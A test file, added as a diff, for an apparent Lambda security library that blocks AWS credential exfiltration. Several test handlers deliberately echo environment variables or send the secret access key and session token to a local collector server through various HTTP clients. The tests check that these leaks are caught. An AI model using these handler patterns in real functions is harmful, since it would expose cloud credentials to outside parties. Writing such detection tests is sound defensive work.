@@ -1,0 +1,218 @@
+"""The function's own AWS credentials never leave: not in a response, not in an outbound request."""
+from __future__ import annotations
+
+import base64
+import http.client
+import json
+import os
+import urllib.request
+from collections.abc import Iterator
+from urllib.parse import quote, urlencode
+
+import pytest
+import requests
+
+from app_protect_lambda import RequestBlocked, protect
+from app_protect_lambda.testing import LambdaContext, apigw_v1_event, apigw_v2_event, sqs_event
+
+from .test_network_hooks import TIMEOUT, LocalServer, install_resolver
+
+
+@pytest.fixture
+def collector() -> Iterator[LocalServer]:
+    with LocalServer(body=b"thanks") as running:
+        yield running
+
+
+@pytest.fixture(autouse=True)
+def resolver(monkeypatch: pytest.MonkeyPatch) -> list[str]:
+    return install_resolver(monkeypatch, {})
+
+
+def secret_values() -> list[str]:
+    values = [os.environ["AWS_SECRET_ACCESS_KEY"], os.environ["AWS_SESSION_TOKEN"]]
+    return values + [quote(v, safe="") for v in values]
+
+
+def assert_no_secret_in(capsys_text: str) -> None:
+    for value in secret_values():
+        assert value not in capsys_text
+
+
+def env_echo(mode: str = "block"):
+    @protect(mode=mode)
+    def handler(event, context):
+        return {"statusCode": 200, "headers": {"Content-Type": "application/json"},
+                "body": json.dumps(dict(os.environ), indent=1)}
+    return handler
+
+
+def test_echoing_the_environment_is_blocked_and_the_record_holds_no_secret(records, capsys) -> None:
+    reply = env_echo()(apigw_v1_event(path="/debug"), LambdaContext())
+    assert reply["statusCode"] == 403 and "fakeSecret" not in reply["body"]
+    [record] = records.detections()
+    assert record["protection"] == "credential_exfiltration" and record["action"] == "blocked"
+    assert "AWS_SECRET_ACCESS_KEY" in record["evidence"] and "AWS_SESSION_TOKEN" in record["evidence"]
+    assert_no_secret_in(json.dumps(records.all()))
+
+
+def test_report_mode_leaves_the_response_and_still_never_logs_the_secret(records, capsys) -> None:
+    reply = env_echo("report")(apigw_v1_event(), LambdaContext())
+    assert reply["statusCode"] == 200 and os.environ["AWS_SECRET_ACCESS_KEY"] in reply["body"]
+    [record] = records.detections()
+    assert record["action"] == "reported"
+    assert_no_secret_in(json.dumps(records.all()))
+
+
+def test_off_mode_records_nothing(records) -> None:
+    @protect(policy={"mode": "block", "protections": {"credential_exfiltration": "off"}})
+    def handler(event, context):
+        return {"statusCode": 200, "body": os.environ["AWS_SECRET_ACCESS_KEY"]}
+
+    assert handler(apigw_v1_event(), LambdaContext())["statusCode"] == 200
+    assert records.detections() == []
+
+
+@pytest.mark.parametrize("response", [
+    lambda: {"statusCode": 200, "body": base64.b64encode(f"k={os.environ['AWS_SECRET_ACCESS_KEY']}".encode()).decode(),
+             "isBase64Encoded": True},
+    lambda: {"statusCode": 200, "headers": {"X-Debug-Token": os.environ["AWS_SESSION_TOKEN"]}, "body": "ok"},
+    lambda: {"statusCode": 200, "multiValueHeaders": {"X-Debug": ["a", os.environ["AWS_SECRET_ACCESS_KEY"]]}},
+    lambda: {"statusCode": 200, "cookies": [f"s={quote(os.environ['AWS_SECRET_ACCESS_KEY'], safe='')}"]},
+    lambda: {"statusCode": 302, "headers": {"Location": "/x?" + urlencode({"t": os.environ["AWS_SESSION_TOKEN"]})}},
+    lambda: {"statusCode": 200, "body": {"nested": {"key": os.environ["AWS_SECRET_ACCESS_KEY"]}}},
+    lambda: {"statusCode": 200, "body": f"{os.environ['AWS_ACCESS_KEY_ID']}\n{os.environ['AWS_SESSION_TOKEN']}"},
+    lambda: json.dumps({"creds": os.environ["AWS_SECRET_ACCESS_KEY"]}),
+    lambda: {"message": "not an HTTP shape", "env": dict(os.environ)},
+])
+def test_every_part_of_the_response(response, records) -> None:
+    @protect(mode="block")
+    def handler(event, context):
+        return response()
+
+    reply = handler(apigw_v2_event(), LambdaContext())
+    assert reply["statusCode"] == 403
+    assert len(records.detections()) == 1
+
+
+@pytest.mark.parametrize("body", [
+    "AWS_SESSION_TOKEN",
+    json.dumps({"variables": ["AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN", "AWS_ACCESS_KEY_ID"]}),
+    "環境変数 AWS_SESSION_TOKEN は設定済みです。",
+    json.dumps({"access_key_id": "ASIAFAKEEXAMPLE00001"}),
+    "x" * 1024 * 1024,
+])
+def test_benign_responses_pass_unchanged(body: str, records) -> None:
+    @protect(mode="block")
+    def handler(event, context):
+        return {"statusCode": 200, "headers": {"Content-Type": "text/plain"}, "body": body}
+
+    reply = handler(apigw_v1_event(), LambdaContext())
+    assert reply == {"statusCode": 200, "headers": {"Content-Type": "text/plain"}, "body": body}
+    assert records.detections() == []
+
+
+def test_presigned_url_response_passes(records) -> None:
+    token = os.environ["AWS_SESSION_TOKEN"]
+    url = (f"https://bucket.s3.amazonaws.com/report.pdf?X-Amz-Algorithm=AWS4-HMAC-SHA256"
+           f"&X-Amz-Credential={os.environ['AWS_ACCESS_KEY_ID']}%2F20260101%2Fus-east-1%2Fs3%2Faws4_request"
+           f"&X-Amz-Security-Token={quote(token, safe='')}&X-Amz-Signature=0123abcd")
+
+    @protect(mode="block")
+    def handler(event, context):
+        return {"statusCode": 302, "headers": {"Location": url}}
+
+    assert handler(apigw_v1_event(), LambdaContext()) == {"statusCode": 302, "headers": {"Location": url}}
+    assert records.detections() == []
+
+
+def test_non_http_invocations_raise_request_blocked(records) -> None:
+    @protect(mode="block")
+    def handler(event, context):
+        return {"processed": 1, "debug": dict(os.environ)}
+
+    with pytest.raises(RequestBlocked) as raised:
+        handler(sqs_event({"id": 1}), LambdaContext())
+    assert "credential_exfiltration" in str(raised.value)
+    assert_no_secret_in(str(raised.value))
+
+
+# ---------------------------------------------------------------- outbound
+
+def test_posting_the_secret_to_a_collector_is_blocked_before_a_byte_is_sent(collector: LocalServer,
+                                                                           records) -> None:
+    @protect(mode="block")
+    def handler(event, context):
+        requests.post(f"{collector.url}/collect", data={"k": os.environ["AWS_SECRET_ACCESS_KEY"]}, timeout=TIMEOUT)
+        return {"statusCode": 200}
+
+    assert handler(apigw_v1_event(), LambdaContext())["statusCode"] == 403
+    assert collector.requests == []  # connected, but no request was ever sent
+    [record] = records.detections()
+    assert record["rule"] == "credential_exfiltration.outbound"
+    assert record["sink"]["name"] == "urllib3.connection.HTTPConnection.request"
+    assert_no_secret_in(json.dumps(records.all()))
+
+
+@pytest.mark.parametrize("how", ["query", "header", "body"])
+def test_outbound_request_line_headers_and_body(how: str, collector: LocalServer, records) -> None:
+    token = os.environ["AWS_SESSION_TOKEN"]
+
+    @protect(mode="block")
+    def handler(event, context):
+        if how == "query":
+            urllib.request.urlopen(f"{collector.url}/c?{urlencode({'t': token})}", timeout=TIMEOUT).read()
+        else:
+            connection = http.client.HTTPConnection("127.0.0.1", collector.port, timeout=TIMEOUT)
+            headers = {"X-Token": token} if how == "header" else {}
+            connection.request("POST", "/c", body=token.encode() if how == "body" else b"{}", headers=headers)
+            connection.getresponse().read()
+        return {"statusCode": 200}
+
+    assert handler(apigw_v1_event(), LambdaContext())["statusCode"] == 403
+    assert collector.requests == []
+    assert len(records.detections()) == 1
+
+
+def test_hand_built_and_streamed_requests_are_judged_as_they_are_sent(collector: LocalServer, records) -> None:
+    secret = os.environ["AWS_SECRET_ACCESS_KEY"].encode()
+
+    @protect(mode="block")
+    def handler(event, context):
+        if event["queryStringParameters"]["how"] == "hand-built":
+            connection = http.client.HTTPConnection("127.0.0.1", collector.port, timeout=TIMEOUT)
+            connection.putrequest("POST", "/c")
+            connection.putheader("Content-Length", str(len(secret)))
+            connection.endheaders()
+            connection.send(secret)
+        else:
+            requests.post(f"{collector.url}/c", data=iter([b"chunk-1,", secret]), timeout=TIMEOUT)
+        return {"statusCode": 200}
+
+    for how in ("hand-built", "streamed"):
+        assert handler(apigw_v1_event(query={"how": how}), LambdaContext())["statusCode"] == 403
+    assert all(request["body"] in (b"", b"chunk-1,") for request in collector.requests)  # never the secret
+    assert [r["sink"]["name"] for r in records.detections()] == ["http.client.HTTPConnection.send"] * 2
+
+
+def test_sigv4_signed_request_to_a_local_endpoint_passes(collector: LocalServer, records) -> None:
+    @protect(mode="block")
+    def handler(event, context):
+        headers = {"X-Amz-Security-Token": os.environ["AWS_SESSION_TOKEN"],
+                   "Authorization": f"AWS4-HMAC-SHA256 Credential={os.environ['AWS_ACCESS_KEY_ID']}/20260101/"
+                                    "us-east-1/sqs/aws4_request, SignedHeaders=host, Signature=abc"}
+        return {"statusCode": 200, "body": requests.post(f"{collector.url}/", data=b"Action=ListQueues",
+                                                          headers=headers, timeout=TIMEOUT).text}
+
+    assert handler(apigw_v1_event(), LambdaContext()) == {"statusCode": 200, "body": "thanks"}
+    assert len(collector.requests) == 1 and records.detections() == []
+
+
+def test_ordinary_outbound_requests_pass(collector: LocalServer, records) -> None:
+    @protect(mode="block")
+    def handler(event, context):
+        body = json.dumps({"note": "AWS_SESSION_TOKEN を送らない", "size": "x" * 100_000}).encode()
+        return {"statusCode": 200, "body": requests.post(f"{collector.url}/ok", data=body, timeout=TIMEOUT).text}
+
+    assert handler(apigw_v1_event(), LambdaContext())["statusCode"] == 200
+    assert len(collector.requests) == 1 and records.detections() == []
